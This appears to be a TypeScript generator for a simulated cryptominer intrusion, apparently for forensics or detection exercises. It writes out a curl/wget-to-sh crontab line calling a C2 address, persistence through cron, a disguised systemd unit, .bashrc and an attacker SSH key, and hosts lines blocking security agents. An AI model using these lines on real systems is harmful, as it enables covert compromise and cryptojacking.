import { MINER_SCRIPT, type MinerNames, minerArguments, starterScript } from './inside/miner-script.ts';
import { C2, POOL } from './places.ts';
import type { Random } from './random.ts';
import type { Part } from './scene.ts';
import { sshKey } from './ssh-key.ts';
import type { Stage } from './stage.ts';

const BASE58 = '123456789ABCDEFGHJKLMNPQRSTUVWXYZabcdefghijkmnopqrstuvwxyz';

/** A wallet address by its form (95 characters of base 58); the text in it says that nobody owns it. */
export function pretendWallet(random: Random): string {
  const said = '4ADRiLLNotAReaLWaLLet';
  return said + random.text(95 - said.length, BASE58);
}

/** Names as seen in write-ups of noisy miners (Kinsing, Outlaw, Sysrv, TeamTNT). */
export function noisyNames(
  random: Random,
): MinerNames & { readonly unit: string; readonly cronFile: string } {
  const hidden = random.pick(['/var/tmp/.xdiag', '/var/tmp/.ICEd-unix', '/var/tmp/.font-cache']);
  return {
    folder: random.pick(['/tmp/.X19-unix', '/tmp/.X25-unix', '/tmp/.rsync']),
    program: random.pick(['kdevtmpfsi', 'kinsing', 'xmrig', 'sysrv012']),
    script: '.x',
    starter: `${hidden}/upd`,
    download: random.pick(['i.sh', 'ldr.sh', 'cr.sh']),
    poolAddress: POOL.address,
    poolPort: POOL.port,
    wallet: pretendWallet(random),
    unit: random.pick([
      'dbus-org.freedesktop.resolved.service',
      'systemd-timesyncdd.service',
      'systemd-logind-helper.service',
    ]),
    cronFile: random.pick(['/etc/cron.d/0hourly-sync', '/etc/cron.d/perfclean', '/etc/cron.d/sysupdate']),
  };
}

/** One loud miner and seven ways to come back. Every one of them only starts the pretend miner again. */
export function noisyInfection(names: ReturnType<typeof noisyNames>, stage: Stage, random: Random): Part[] {
  const fetch = `http://${C2.address}/${names.download}`;
  const unitFile = `/etc/systemd/system/${names.unit}`;
  return [
    { kind: 'file', role: 'stage', what: 'folder', path: names.folder, isFolder: true, mode: 0o777 },
    { kind: 'file', role: 'stage', what: 'lock', path: `${names.folder}/.lock`, text: '', mode: 0o666 },
    {
      ...{ kind: 'file', role: 'infection', what: 'miner program', mode: 0o755 },
      ...{ path: `${names.folder}/${names.program}`, copyOf: '/bin/bash' },
    },
    {
      ...{ kind: 'file', role: 'infection', what: 'miner script', mode: 0o755 },
      ...{ path: `${names.folder}/${names.script}`, text: MINER_SCRIPT },
    },
    {
      ...{ kind: 'file', role: 'infection', what: 'starter', mode: 0o755 },
      ...{ path: names.starter, text: starterScript(names) },
    },
    {
      ...{ kind: 'file', role: 'infection', what: 'cron file', path: names.cronFile, mode: 0o644 },
      text: `SHELL=/bin/sh\n@reboot root ${names.starter} cron.d >/dev/null 2>&1\n* * * * * root ${names.starter} cron.d >/dev/null 2>&1\n`,
    },
    {
      ...{ kind: 'file', role: 'infection', what: 'systemd unit', path: unitFile, mode: 0o644 },
      text: `[Unit]\nDescription=Network Name Resolution Helper\nAfter=network.target\n\n[Service]\nType=forking\nExecStart=${names.starter} unit\nRestart=always\nRestartSec=30\n\n[Install]\nWantedBy=multi-user.target\n`,
    },
    {
      ...{ kind: 'link', role: 'infection', what: 'unit enabled', target: unitFile },
      path: `/etc/systemd/system/multi-user.target.wants/${names.unit}`,
    },
    badLine(`${stage.crontabs}/${stage.victim.name}`, 0o600, {
      what: 'crontab line',
      text: `* * * * * (curl -fsSL ${fetch}||wget -q -O- ${fetch})|sh >/dev/null 2>&1`,
      owner: { uid: stage.victim.uid, gid: stage.crontabGid },
    }),
    badLine('/root/.bashrc', 0o644, {
      what: 'shell start line',
      text: `(${names.starter} login >/dev/null 2>&1 &)`,
    }),
    badLine('/root/.ssh/authorized_keys', 0o600, {
      what: 'authorized key',
      text: `${sshKey('ssh-rsa', random)} mdrfckr`,
    }),
    badLine('/etc/hosts', 0o644, {
      what: 'hosts line',
      text: '0.0.0.0 update.aegis.aliyun.com',
    }),
    badLine('/etc/hosts', 0o644, {
      what: 'hosts line',
      text: '0.0.0.0 jsrv.aegis.aliyun.com jsrv2.aegis.aliyun.com',
    }),
    {
      ...{ kind: 'process', role: 'infection', what: 'miner', workingFolder: names.folder, niceness: 19 },
      ...{ connectsTo: `${POOL.address}:${POOL.port}`, environment: { STARTED_BY: 'intrusion' } },
      file: '/bin/sh',
      // It holds the lock that keeps the starters from starting another.
      args: [
        ...['-c', 'exec 9>> "$1" && flock -n 9 && shift && exec "$@"', 'sh', `${names.folder}/.lock`],
        ...[`${names.folder}/${names.program}`, ...minerArguments(names)],
      ],
    },
  ];
}

export function badLine(
  path: string,
  mode: number,
  line: { what: string; text: string; owner?: { uid: number; gid: number } },
): Part {
  const lines = [{ text: line.text, what: line.what, role: 'infection' as const }];
  return { kind: 'lines', role: 'infection', what: line.what, path, mode, lines, ...line.owner };
}
